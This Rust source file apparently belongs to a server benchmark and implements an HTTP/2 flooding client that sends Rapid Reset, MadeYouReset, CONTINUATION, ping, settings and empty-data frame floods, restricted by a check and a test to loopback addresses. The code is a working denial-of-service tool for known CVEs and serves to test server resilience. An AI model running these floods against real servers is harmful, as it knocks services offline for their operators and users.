//! An attacker who speaks just enough HTTP/2 (RFC 9113) to be a burden: frames that are cheap to send and not to receive,
//! over and over. Cut off, it connects again. Frames leave in bursts with a pause between them, since without one it would
//! merely take the core from the clients it is measured beside. It runs as a child process, on loopback only.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use crate::failure::{Failure, While};

/// The sub-command that attacks; not for people.
pub(crate) const FLOOD_COMMAND: &str = "bench-flood";

/// What is sent over and over.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Requests that make the server take them back (CVE-2025-8671): a window that grows by nothing.
    MadeYouReset,
    /// A head that never ends (CVE-2024-27316 and its like).
    Continuation,
    /// Pings, each to be answered.
    Ping,
    /// Settings, each to be acknowledged.
    Settings,
    /// Frames of a body without a byte in them.
    EmptyData,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames of a burst.
const BURST: usize = 64;
/// Between bursts on a connection.
const PAUSE: Duration = Duration::from_millis(4);
/// Connections at the same time.
const CONNECTIONS: usize = 4;
/// A request for `/` of `a` in static entries of HPACK and one literal (RFC 7541 appendix A).
const REQUEST: &[u8] = b"\x82\x86\x84\x41\x01a";
/// The same as a POST.
const POST: &[u8] = b"\x83\x86\x84\x41\x01a";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Attacks: which flood, whom (on this machine), for how many seconds.
pub(crate) fn flood(arguments: &[&str]) -> Result<(), Failure> {
    let [name, address, seconds] = arguments else {
        return Err(Failure::usage("a flood, an address and seconds are wanted"));
    };
    let flood = Flood::ALL.into_iter().find(|flood| flood.name() == *name);
    let flood = flood.ok_or_else(|| Failure::usage(format!("unknown flood `{name}`")))?;
    let address: SocketAddr = address.parse().while_doing("reading the address")?;
    if !address.ip().is_loopback() {
        return Err(Failure::usage("only this machine is attacked"));
    }
    let end = Instant::now() + Duration::from_secs(seconds.parse().while_doing("reading the seconds")?);
    std::thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                while Instant::now() < end {
                    // Cut off is what an attacker has to expect.
                    let _ = once(flood, address, end);
                    std::thread::sleep(PAUSE);
                }
            });
        }
    });
    Ok(())
}

/// One connection to its end.
fn once(flood: Flood, address: SocketAddr, end: Instant) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_write_timeout(Some(Duration::from_secs(1)))?;
    stream.set_nonblocking(false)?;
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    flood.begin(&mut bytes);
    stream.write_all(&bytes)?;
    let mut reader = stream.try_clone()?;
    reader.set_read_timeout(Some(Duration::from_millis(1)))?;
    let mut sink = [0; 16 * 1024];
    let mut stream_id = 1;
    while Instant::now() < end {
        bytes.clear();
        for _ in 0..BURST {
            stream_id = flood.push(&mut bytes, stream_id);
        }
        stream.write_all(&bytes)?;
        // What is answered is read, so that nobody can say that we did not.
        if matches!(reader.read(&mut sink), Ok(0)) {
            return Ok(());
        }
        std::thread::sleep(PAUSE);
    }
    Ok(())
}

impl Flood {
    /// Every flood.
    pub(crate) const ALL: [Self; 6] =
        [Self::RapidReset, Self::MadeYouReset, Self::Continuation, Self::Ping, Self::Settings, Self::EmptyData];

    /// The name in the report.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made you reset",
            Self::Continuation => "continuation",
            Self::Ping => "ping",
            Self::Settings => "settings",
            Self::EmptyData => "empty data",
        }
    }

    /// What comes once per connection.
    fn begin(self, out: &mut Vec<u8>) {
        match self {
            Self::Continuation => frame(out, HEADERS, END_STREAM, 1, REQUEST),
            Self::EmptyData => frame(out, HEADERS, END_HEADERS, 1, POST),
            Self::RapidReset | Self::MadeYouReset | Self::Ping | Self::Settings => {}
        }
    }

    /// What comes over and over; returns the next stream.
    fn push(self, out: &mut Vec<u8>, stream: u32) -> u32 {
        match self {
            Self::RapidReset => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
                frame(out, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::MadeYouReset => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
                frame(out, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
            }
            // A field that is not indexed, with a name of one byte and a value of another.
            Self::Continuation => frame(out, CONTINUATION, 0, 1, b"\x00\x01a\x01b"),
            Self::Ping => frame(out, PING, 0, 0, &[0; 8]),
            Self::Settings => frame(out, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Self::EmptyData => frame(out, DATA, 0, 1, &[]),
        }
        stream + 2
    }
}

/// A frame (RFC 9113 section 4.1).
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    out.extend_from_slice(length.get(1..).unwrap_or_default());
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_and_its_end_are_two_frames_of_the_same_stream() {
        let mut bytes = Vec::new();
        assert_eq!(Flood::RapidReset.push(&mut bytes, 7), 9);
        let expected = [&[0, 0, 6, 1, 5, 0, 0, 0, 7][..], REQUEST, &[0, 0, 4, 3, 0, 0, 0, 0, 7, 0, 0, 0, 8]].concat();
        assert_eq!(bytes, expected);
    }

    #[test]
    fn nobody_but_this_machine_is_attacked() {
        assert!(flood(&["ping", "192.0.2.1:80", "1"]).is_err_and(|failure| failure.is_usage()));
        assert!(flood(&["tickle", "127.0.0.1:80", "1"]).is_err_and(|failure| failure.is_usage()));
    }
}
